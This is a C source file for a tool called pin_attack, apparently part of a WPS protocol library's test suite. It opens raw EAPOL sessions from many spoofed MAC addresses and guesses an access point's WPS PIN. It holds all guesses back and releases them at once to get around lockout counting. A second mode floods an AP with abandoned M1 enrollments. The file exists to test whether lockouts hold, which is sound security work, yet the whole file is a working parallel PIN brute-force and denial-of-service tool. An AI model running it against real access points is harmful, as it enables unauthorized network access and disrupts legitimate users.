/*
 * pin_attack: external-registrar guessing of an AP PIN as reaver and
 * OneShot do it, with the parallel twist of issue 12: N sessions from N
 * MACs are opened and each brought to M3 (the AP's E-Hash1/E-Hash2),
 * every guess (M4, R-Hash1 of the guessed first half) is held back, then
 * all are released at once. A lockout that counts runs instead of guesses
 * evaluates all of them; a sound one evaluates at most what its window
 * allows and refuses the rest with config error 15.
 *
 *   pin_attack IFACE AP_MAC N WRONG_PIN RIGHT_PIN
 *   pin_attack --m1-flood IFACE AP_MAC RATE SECONDS
 *
 * The second form floods M1s as issue 12 found them locking out real
 * enrollees: RATE enrollees a second, each from a new MAC, each taken
 * through the Identity exchange to its M1 and then abandoned (no M3, no
 * answer to the AP's retransmissions). Prints "m1-flood: sent=N rate=R
 * m2=A m2d=B": the M1s sent, and the AP's answers to them (M2, which
 * cost it an exponentiation, or M2D).
 *
 * Sessions 1..N-1 guess WRONG_PIN, session N RIGHT_PIN. Each speaks EAPOL
 * through an AF_PACKET socket from its own MAC (02:a7:..:i). Prints one
 * line per session and a summary:
 *   attack: sessions=N at_m3=A evaluated_wrong=E refused_locked=L
 *           settings=S other=O
 * (evaluated_wrong: NACKs with config error 18; settings: sessions that
 * got the AP's network settings in M7). Exit 0 when it ran, 2 on bad
 * arguments, 1 when the interface could not be used.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "wsc/wsc.h"

#define MAX_SESS 256

struct sess {
	uint8_t mac[6];
	wsc_eap_peer *p;
	uint8_t held[2048];       /* the guess (M4), held back */
	size_t held_len;
	bool at_m3;               /* an M4 is ready: the AP's M3 came */
	bool released;
	bool settings;            /* the AP's settings arrived (M7) */
	int config_error;
	int status;
};

static struct sess S[MAX_SESS];
static int n_sess, sock, ifindex;
static uint8_t ap_mac[6];

static uint64_t now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

static void on_event(void *ud, const wsc_event *ev)
{
	struct sess *s = ud;

	if (ev->type == WSC_EV_AP_SETTINGS)
		s->settings = true;
	if (ev->type == WSC_EV_FAIL && !s->config_error)
		s->config_error = ev->config_error;
}

static void send_pdu(const struct sess *s, const uint8_t *pdu, size_t len)
{
	uint8_t f[2048 + 14];
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_ifindex = ifindex, .sll_halen = 6 };

	if (len > 2048)
		return;
	memcpy(f, ap_mac, 6);
	memcpy(f + 6, s->mac, 6);
	f[12] = 0x88;
	f[13] = 0x8e;
	memcpy(f + 14, pdu, len);
	memcpy(to.sll_addr, ap_mac, 6);
	if (sendto(sock, f, len + 14, 0, (struct sockaddr *)&to,
		   sizeof(to)) < 0)
		perror("sendto");
}

/* Send what the session has, holding an M4 back until release. */
static void pump(struct sess *s, bool release)
{
	const uint8_t *pdu;
	size_t len;
	wsc_eapol_info in;

	if (release && s->held_len && !s->released) {
		send_pdu(s, s->held, s->held_len);
		s->released = true;
	}
	while (wsc_eap_peer_pop_tx(s->p, &pdu, &len)) {
		if (!s->released && !wsc_eapol_classify(pdu, len, &in) &&
		    in.msg_type == WSC_MSG_M4) {
			memcpy(s->held, pdu, len);
			s->held_len = len;
			s->at_m3 = true;
			if (!release)
				continue;
			s->released = true;
		}
		send_pdu(s, pdu, len);
	}
}

static int open_sock(const char *ifname)
{
	struct packet_mreq mr = { .mr_type = PACKET_MR_PROMISC };
	struct sockaddr_ll a = { .sll_family = AF_PACKET,
				 .sll_protocol = htons(0x888e) };

	ifindex = (int)if_nametoindex(ifname);
	sock = socket(AF_PACKET, SOCK_RAW, htons(0x888e));
	if (!ifindex || sock < 0)
		return -1;
	a.sll_ifindex = ifindex;
	mr.mr_ifindex = ifindex;
	if (bind(sock, (struct sockaddr *)&a, sizeof(a)) ||
	    setsockopt(sock, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mr,
		       sizeof(mr)))
		return -1;
	return 0;
}

static bool all(bool (*pred)(const struct sess *))
{
	for (int i = 0; i < n_sess; i++)
		if (!pred(&S[i]))
			return false;
	return true;
}

static bool ready_or_over(const struct sess *s)
{
	return s->at_m3 || wsc_eap_peer_status(s->p) != 0;
}

static bool over(const struct sess *s)
{
	return wsc_eap_peer_status(s->p) != 0;
}

/* Frames in, timers, frames out, until cond or deadline. */
static void run_until(bool (*cond)(const struct sess *), bool release,
		      uint64_t deadline)
{
	uint8_t f[4096];

	while (!all(cond) && now_ms() < deadline) {
		struct pollfd pfd = { .fd = sock, .events = POLLIN };
		if (poll(&pfd, 1, 20) > 0) {
			ssize_t n = recv(sock, f, sizeof(f), 0);
			for (int i = 0; n > 14 && i < n_sess; i++)
				if (!memcmp(f, S[i].mac, 6) &&
				    !memcmp(f + 6, ap_mac, 6)) {
					wsc_eap_peer_recv(S[i].p, f + 14,
							  (size_t)n - 14,
							  now_ms());
					pump(&S[i], release);
				}
		}
		for (int i = 0; i < n_sess; i++) {
			if (now_ms() >= wsc_eap_peer_expiry(S[i].p))
				wsc_eap_peer_handle_expiry(S[i].p, now_ms());
			pump(&S[i], release);
		}
	}
}

static int parse_mac(const char *s, uint8_t m[6])
{
	unsigned v[6];
	if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4],
		   &v[5]) != 6)
		return -1;
	for (int i = 0; i < 6; i++)
		m[i] = (uint8_t)v[i];
	return 0;
}

/* A new enrollee from MAC number k, started. */
static int flood_start(struct sess *s, uint32_t k)
{
	uint8_t mac[6] = { 0x02, 0xa7, 0xf1, (uint8_t)(k >> 16),
			   (uint8_t)(k >> 8), (uint8_t)k };
	wsc_device dev;
	int err;

	memset(s, 0, sizeof(*s));
	memcpy(s->mac, mac, 6);
	wsc_device_defaults(&dev, false, mac);
	wsc_session_cfg sc = { .size = sizeof(sc), .role = WSC_ENROLLEE,
			       .dev = &dev, .password = (const uint8_t *)"1234",
			       .password_len = 4 };
	wsc_eap_peer_cfg pc = { .size = sizeof(pc), .session = &sc };
	s->p = wsc_eap_peer_new(NULL, &pc, &err);
	if (!s->p)
		return -1;
	wsc_eap_peer_start(s->p, now_ms());
	return 0;
}

/* Send what the flooding enrollee has; true once its M1 went out. */
static bool flood_pump(struct sess *s)
{
	const uint8_t *pdu;
	size_t len;
	wsc_eapol_info in;

	while (s->p && wsc_eap_peer_pop_tx(s->p, &pdu, &len)) {
		send_pdu(s, pdu, len);
		if (!wsc_eapol_classify(pdu, len, &in) &&
		    in.msg_type == WSC_MSG_M1)
			return true;
	}
	return false;
}

static int m1_flood(unsigned rate, unsigned secs)
{
	uint64_t t0 = now_ms(), end = t0 + 1000ull * secs + 1000;
	uint32_t started = 0, sent = 0, m2 = 0, m2d = 0;
	uint8_t f[4096];

	n_sess = MAX_SESS; /* a ring of enrollees on their way to M1 */
	printf("started\n");
	fflush(stdout);
	while (now_ms() < end) {
		uint64_t due = t0 + 1000ull * started / rate;
		/* the last second only collects answers */
		while (now_ms() >= due && now_ms() < end - 1000) {
			struct sess *s = &S[started % MAX_SESS];
			wsc_eap_peer_del(s->p);
			s->p = NULL;
			if (flood_start(s, started++))
				return 1;
			flood_pump(s);
			due = t0 + 1000ull * started / rate;
		}
		struct pollfd pfd = { .fd = sock, .events = POLLIN };
		if (poll(&pfd, 1, 1) <= 0)
			continue;
		ssize_t n = recv(sock, f, sizeof(f), 0);
		wsc_eapol_info in;
		if (n > 14 && f[0] == 0x02 && f[1] == 0xa7 && f[2] == 0xf1 &&
		    !wsc_eapol_classify(f + 14, (size_t)n - 14, &in)) {
			m2 += in.msg_type == WSC_MSG_M2;
			m2d += in.msg_type == WSC_MSG_M2D;
		}
		for (int i = 0; n > 14 && i < MAX_SESS; i++) {
			struct sess *s = &S[i];
			if (!s->p || memcmp(f, s->mac, 6) ||
			    memcmp(f + 6, ap_mac, 6))
				continue;
			wsc_eap_peer_recv(s->p, f + 14, (size_t)n - 14,
					  now_ms());
			if (flood_pump(s)) { /* M1 out: abandon it */
				wsc_eap_peer_del(s->p);
				s->p = NULL;
				sent++;
			}
		}
	}
	for (int i = 0; i < MAX_SESS; i++)
		wsc_eap_peer_del(S[i].p);
	printf("m1-flood: sent=%u rate=%u m2=%u m2d=%u\n", sent,
	       (unsigned)(sent / (secs ? secs : 1)), m2, m2d);
	return 0;
}

int main(int argc, char **argv)
{
	wsc_device dev;
	int at_m3 = 0, wrong = 0, locked = 0, settings = 0, other = 0;

	if (argc == 6 && !strcmp(argv[1], "--m1-flood")) {
		unsigned rate = (unsigned)atoi(argv[4]);
		unsigned secs = (unsigned)atoi(argv[5]);
		if (parse_mac(argv[3], ap_mac) || !rate || !secs) {
			fprintf(stderr, "usage: pin_attack --m1-flood IFACE "
				"AP_MAC RATE SECONDS\n");
			return 2;
		}
		if (open_sock(argv[2])) {
			fprintf(stderr, "pin_attack: %s: %s\n", argv[2],
				strerror(errno));
			return 1;
		}
		return m1_flood(rate, secs);
	}
	if (argc != 6 || parse_mac(argv[2], ap_mac) ||
	    (n_sess = atoi(argv[3])) < 1 || n_sess > MAX_SESS ||
	    wsc_pin_valid(argv[4]) || wsc_pin_valid(argv[5])) {
		fprintf(stderr, "usage: pin_attack IFACE AP_MAC N(1..%d) "
			"WRONG_PIN RIGHT_PIN\n", MAX_SESS);
		return 2;
	}
	if (open_sock(argv[1])) {
		fprintf(stderr, "pin_attack: %s: %s\n", argv[1],
			strerror(errno));
		return 1;
	}
	for (int i = 0; i < n_sess; i++) {
		struct sess *s = &S[i];
		const char *pin = i == n_sess - 1 ? argv[5] : argv[4];
		uint8_t mac[6] = { 0x02, 0xa7, 0, 0, (uint8_t)(i >> 8),
				   (uint8_t)i };
		memcpy(s->mac, mac, 6);
		wsc_device_defaults(&dev, false, mac);
		wsc_session_cfg sc = { .size = sizeof(sc),
			.role = WSC_REGISTRAR, .dev = &dev,
			.password = (const uint8_t *)pin,
			.password_len = strlen(pin),
			.on_event = on_event, .event_ud = s };
		wsc_eap_peer_cfg pc = { .size = sizeof(pc), .session = &sc,
					.response_timeout_ms = 30000 };
		int err;
		s->p = wsc_eap_peer_new(NULL, &pc, &err);
		if (!s->p) {
			fprintf(stderr, "pin_attack: %s\n", wsc_strerror(err));
			return 1;
		}
		wsc_eap_peer_start(s->p, now_ms());
		pump(s, false);
	}
	/* every session to M3, guesses held */
	run_until(ready_or_over, false, now_ms() + 20000);
	for (int i = 0; i < n_sess; i++)
		at_m3 += S[i].at_m3 && !over(&S[i]);
	/* all guesses at once */
	for (int i = 0; i < n_sess; i++)
		pump(&S[i], true);
	run_until(over, true, now_ms() + 20000);
	for (int i = 0; i < n_sess; i++) {
		struct sess *s = &S[i];
		s->status = wsc_eap_peer_status(s->p);
		printf("session %d %02x:%02x:%02x:%02x:%02x:%02x m3=%d "
		       "config_error=%d settings=%d status=%d\n", i + 1,
		       s->mac[0], s->mac[1], s->mac[2], s->mac[3], s->mac[4],
		       s->mac[5], s->at_m3, s->config_error, s->settings,
		       s->status);
		if (s->settings)
			settings++;
		else if (s->config_error == WSC_CE_DEV_PASSWORD_AUTH)
			wrong++;
		else if (s->config_error == WSC_CE_SETUP_LOCKED)
			locked++;
		else
			other++;
		wsc_eap_peer_del(s->p);
	}
	printf("attack: sessions=%d at_m3=%d evaluated_wrong=%d "
	       "refused_locked=%d settings=%d other=%d\n", n_sess, at_m3,
	       wrong, locked, settings, other);
	close(sock);
	return 0;
}
